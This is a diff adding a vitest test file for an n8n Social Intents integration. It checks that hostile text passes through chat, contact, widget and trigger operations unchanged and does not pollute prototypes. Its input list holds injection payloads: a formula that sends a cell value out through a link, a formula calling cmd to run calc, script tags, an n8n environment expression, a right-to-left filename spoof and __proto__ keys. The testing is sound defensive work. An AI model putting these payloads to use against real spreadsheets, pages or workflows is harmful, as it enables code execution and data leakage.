@@ -1,0 +1,184 @@
+import type { IDataObject } from 'n8n-workflow';
+import { afterAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
+import { startSandbox } from '../../../sandbox/server.mts';
+import { LINES, loadEngine, openInbox } from '../../support/engine.mts';
+import { action, byId, signIn } from '../action/support.mts';
+
+const NOW = new Date().toISOString();
+const ID = 'record-1';
+
+/** What a visitor may type, and what other programs would run, turn around, or break at. */
+const TEXTS: Array<[string, string]> = [
+	['a formula', '=HYPERLINK("https://example.com?x="&A1,"Win")'],
+	['a formula of another sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
+	['a script', '<script>alert(1)</script><img src=x onerror="alert(2)">'],
+	['an expression of n8n', '={{ $env.PATH }} {{ $json.id }} ${1+1}'],
+	['right-to-left marks', 'invoice\u202efdp.exe\u200f\u2066'],
+	['a NUL and other control characters', 'a\u0000b\u0007c\u001b[31m\u2028'],
+	['a lone surrogate', 'a\ud800b\udc00'],
+	['an emoji of many parts', '👩‍👩‍👧‍👦 e\u0301'],
+	['names of prototypes', '__proto__ constructor toString'],
+	['a transcript of 10 MB', 'x'.repeat(10_000_000)],
+];
+
+const MAX_FIELD = 1000;
+
+/** The text in every field that holds one; a long one only where transcripts are. */
+const chatWith = (text: string, fields: IDataObject = {}): IDataObject => ({
+	id: ID,
+	chatType: 'Answered',
+	startDate: NOW,
+	appId: 'widget-1',
+	...fieldsWith(text, ['visitorFullName', 'visitorEmail', 'visitorPhone', 'agentName', 'page']),
+	textBody: text,
+	messages: [
+		{
+			body: text,
+			nickname: text.slice(0, MAX_FIELD),
+			timestamp: Date.now(),
+			type: 'messageToAgent',
+		},
+	],
+	...fields,
+});
+const contactWith = (text: string): IDataObject => ({
+	id: ID,
+	addDate: NOW,
+	appId: 'widget-1',
+	...fieldsWith(text, ['firstName', 'lastName', 'email', 'phone', 'group', 'page', 'appName']),
+});
+const fieldsWith = (text: string, names: string[]): IDataObject =>
+	Object.fromEntries(names.map((name) => [name, text.slice(0, MAX_FIELD)]));
+const MISSED = { chatType: 'Missed' };
+const OFFLINE = { chatType: 'Offline Message' };
+
+const sandbox = await startSandbox({ data: { widgets: [] } });
+afterAll(async () => await sandbox.close());
+beforeEach(() => sandbox.reset());
+
+/** Has the service answer every request with this list, as JSON that this test has written itself. */
+function serve(list: string, ...records: IDataObject[]) {
+	sandbox.faults.clear();
+	const body = JSON.stringify({ apiStatus: 'Success', [list]: records });
+	sandbox.faults.add({ kind: 'status', status: 200, body });
+}
+
+describe.each(LINES)('text that bites other programs, in n8n %s', async (lineName) => {
+	const engine = await loadEngine(lineName);
+	const run = async (operation: string, parameters: object = {}) => {
+		const node = action(operation, parameters);
+		const execution = await engine.execute({ node, credentials: signIn(sandbox) });
+		expect(execution.error).toBeUndefined();
+		return execution.items;
+	};
+	const first = async (operation: string, parameters: object = {}) =>
+		(await run(operation, parameters))[0]?.json;
+	const raw = { returnAll: true, simplify: false };
+	const withTranscript = { returnAll: true, options: { addFields: ['transcript'] } };
+
+	it.each(TEXTS)('%s passes through every operation as it is', async (_, text) => {
+		const chat = chatWith(text);
+		serve('chats', chat);
+		expect(await first('chat.getAll', raw)).toEqual(chat);
+		expect(await first('chat.get', { chatId: ID, simplify: false })).toEqual(chat);
+		const { visitorFullName, visitorEmail, page, agentName } = chat;
+		expect(await first('chat.getAll', withTranscript)).toMatchObject({
+			visitorFullName,
+			visitorEmail,
+			page,
+			agentName,
+			textBody: text,
+		});
+		expect(await first('chat.getMessages', { chatId: ID })).toMatchObject({
+			nickname: text.slice(0, MAX_FIELD),
+			body: text,
+		});
+
+		const missed = chatWith(text, MISSED);
+		serve('chats', missed);
+		expect(await first('missedChat.getAll', raw)).toEqual(missed);
+		expect(await first('missedChat.get', { chatId: ID, simplify: false })).toEqual(missed);
+
+		const message = chatWith(text, OFFLINE);
+		serve('messages', message);
+		expect(await first('offlineMessage.getAll', raw)).toEqual(message);
+		expect(await first('offlineMessage.get', { messageId: ID })).toMatchObject({ textBody: text });
+
+		const contact = contactWith(text);
+		serve('contacts', contact);
+		expect(await first('contact.getAll', raw)).toEqual(contact);
+		expect(await first('contact.getAll', { returnAll: true })).toMatchObject({
+			firstName: contact.firstName,
+		});
+
+		const widget = { id: ID, ...fieldsWith(text, ['name', 'timezone']), created: NOW };
+		serve('apps', widget);
+		expect(await first('widget.getAll', raw)).toEqual(widget);
+		expect(await first('widget.get', { widgetId: byId(ID), simplify: false })).toEqual(widget);
+	});
+
+	it.each(TEXTS)('%s stands in the file of a transcript as it is', async (_, text) => {
+		serve('chats', chatWith(text));
+		for (const format of ['text', 'html']) {
+			const [item] = await run('chat.getTranscript', { chatId: ID, format });
+			const file = await engine.readBinary(item?.binary?.data ?? expect.unreachable());
+			// UTF-8 has no lone surrogates.
+			if (format === 'text') expect(file.toString()).toContain(Buffer.from(text).toString());
+			else expect(file.toString()).not.toMatch(/<script>alert\(1\)<\/script>.*<script>alert\(1\)/s);
+		}
+	});
+
+	it.each(TEXTS)('%s starts a workflow as data, by a delivery and by a poll', async (_, text) => {
+		const credentials = signIn(sandbox);
+		await using inbox = await openInbox();
+		sandbox.setData({ widgets: [{ id: 'widget-1', name: 'W', timezone: 'UTC', created: NOW }] });
+		const trigger = engine.webhookTrigger({
+			node: {
+				type: 'socialIntentsTrigger',
+				parameters: { events: ['chatAnswered'], simplify: false },
+			},
+			credentials,
+			webhookUrl: inbox.url,
+		});
+		await trigger.activate();
+		const chat = chatWith(text, { id: crypto.randomUUID() });
+		const url = sandbox.webhooks[0]?.targetUrl ?? expect.unreachable();
+		const headers = { 'content-type': 'application/json' };
+		const delivery = await trigger.deliver({ url, body: [chat], headers });
+		expect(delivery.items.map(({ json }) => json)).toMatchObject([chat]);
+
+		const name = `Poll ${chat.id as string}`;
+		const poller = engine.poller({
+			node: {
+				type: 'socialIntentsPollingTrigger',
+				name,
+				id: name,
+				parameters: { events: ['chatAnswered'], simplify: false },
+			},
+			credentials,
+		});
+		await poller.activate();
+		serve('chats', chat);
+		onTestFinished(() => sandbox.faults.clear());
+		expect((await poller.tick())?.map(({ json }) => json)).toMatchObject([chat]);
+	});
+
+	it('fields named like parts of a prototype change no other object', async () => {
+		const names = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString'];
+		const fields = names.map((name) => `"${name}":{"polluted":true,"id":"x"}`).join(',');
+		const record = `{"id":"${ID}","chatType":"Answered","startDate":"${NOW}","visitorFullName":"Jane",${fields}}`;
+		for (const [operation, parameters] of [
+			['chat.getAll', raw],
+			['chat.getAll', withTranscript],
+			['chat.get', { chatId: ID }],
+			['chat.getMessages', { chatId: ID }],
+		] as const) {
+			sandbox.faults.clear();
+			sandbox.faults.add({ kind: 'status', status: 200, body: `{"chats":[${record}]}` });
+			const items = await run(operation, parameters);
+			for (const { json } of items) expect(json).not.toHaveProperty('polluted');
+			expect(({} as IDataObject).polluted).toBeUndefined();
+			expect(Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')).toBe(false);
+		}
+	});
+});
